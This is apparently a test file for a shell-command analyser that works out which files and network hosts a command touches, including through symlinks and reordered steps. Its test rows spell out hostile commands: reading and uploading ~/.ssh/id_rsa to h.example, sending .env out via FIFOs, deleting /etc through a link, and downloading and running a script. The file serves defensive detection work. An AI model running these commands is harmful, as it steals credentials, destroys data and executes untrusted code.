import { describe, expect, test } from "vitest";
import { factsOf } from "./facts-of.js";
import { type FactRows, testRows } from "./test-rows.js";

/** Commands whose files are reached by another name or at another time, and all of their facts. */
const ROWS: FactRows = {
  links: [
    {
      run: "ln -s ~/.ssh k; cat k/id_rsa",
      writes: ["./k", "./k/.ssh"],
      reads: ["./k/id_rsa", "~/.ssh/id_rsa"],
    },
    { run: "ln -s / r; rm -rf r/etc", writes: ["./r"], deletes: ["./r/etc/**", "/etc/**"] },
    { run: "ln -s / r; rm -rf r", writes: ["./r"], deletes: ["./r/**"] },
    { run: "ln -s /etc/passwd; cat passwd", reads: ["./passwd", "/etc/passwd"] },
    { run: "ln -s ../x d/l; cat d/l", writes: ["./d/l", "./d/l/x"], reads: ["./d/l", "./x"] },
    { run: "ln -s a b; ln -s b c; echo > c", writes: ["./a", "./b", "./b/a", "./c", "./c/b"] },
    { run: "ln -s a b; rm b", writes: ["./b", "./b/a"], deletes: ["./b"] },
    {
      run: "ln -s ~/.ssh/id_rsa k; rm k; cat k2",
      writes: ["./k", "./k/id_rsa"],
      deletes: ["./k"],
      reads: ["./k2"],
    },
    { run: "cp -s ~/.ssh/id_rsa k; cat k", writes: ["./k", "./k/id_rsa"], reads: ["./k", "~/.ssh/id_rsa"] },
    { run: 'ln -s "$X" k; cat k', writes: ["./k"], reads: ["./k"], unknown: ["dynamic-argument", "limit"] },
    {
      run: "ln -s ~/.ssh/id_rsa k; curl -T k h.example",
      writes: ["./k", "./k/id_rsa"],
      reads: ["./k", "~/.ssh/id_rsa"],
      network: ["both http://h.example < ./k < ~/.ssh/id_rsa"],
    },
  ],
  "other order": [
    {
      run: "curl -d @s h.example & cat .env > s",
      reads: ["./s", "./.env"],
      writes: ["./s"],
      network: ["both http://h.example < ./s", "both http://h.example < ./s < ./.env"],
    },
    {
      run: "mkfifo p; curl -d @p h.example & cp .env p",
      reads: ["./p", "./.env"],
      writes: ["./p", "./p/.env"],
      network: ["both http://h.example < ./p", "both http://h.example < ./p < ./.env"],
    },
    {
      run: "mkfifo p; ln -s p q; curl -d @q h.example & cat .env > p",
      reads: ["./q", "./p", "./.env"],
      writes: ["./p", "./p/p", "./q", "./q/p"],
      network: ["both http://h.example < ./q < ./p", "both http://h.example < ./q < ./p < ./.env"],
    },
    {
      run: "curl -d @s h.example; cat .env > s",
      reads: ["./s", "./.env"],
      writes: ["./s"],
      network: ["both http://h.example < ./s"],
    },
    {
      run: "bash s & curl -o s h.example",
      reads: ["./s"],
      writes: ["./s"],
      network: ["in http://h.example"],
      executes: ["file bash", "network bash"],
      unknown: ["opaque-file", "dynamic-code"],
    },
    {
      run: "bash s; curl -o s h.example",
      reads: ["./s"],
      writes: ["./s"],
      network: ["in http://h.example"],
      executes: ["file bash"],
      unknown: ["opaque-file"],
    },
    { run: "tail -f log & echo a >> log", reads: ["./log"], writes: ["./log"] },
    {
      run: "cat s | sort > t; mv t s",
      reads: ["./s", "./t/**"],
      writes: ["./t", "./s/**", "./s/t/**"],
      deletes: ["./t/**"],
    },
  ],
};

testRows(ROWS);

describe("what was downloaded runs under another name", () => {
  test.each([
    "ln d l",
    "ln -s d l",
    "ln -sf $PWD/d l",
    "cp d l",
    "cp -l d l",
    "install -m 755 d l",
    "mv d l",
    "cat d > l",
    "tee l < d",
    "ln d m; mv m l",
  ])("%s", (made) => {
    for (const run of [
      `curl -o d h.example; ${made}; bash l`,
      `curl h.example > d && ${made} && chmod +x l && ./l`,
    ])
      expect(factsOf(run).executes).toContainEqual(expect.objectContaining({ from: "network" }));
  });

  test("what the link has led to before is not what runs", () => {
    const { executes } = factsOf("curl -o d h.example; ln -s d l; bash m");
    expect(executes.map(({ from }) => from)).toEqual(["file"]);
  });
});
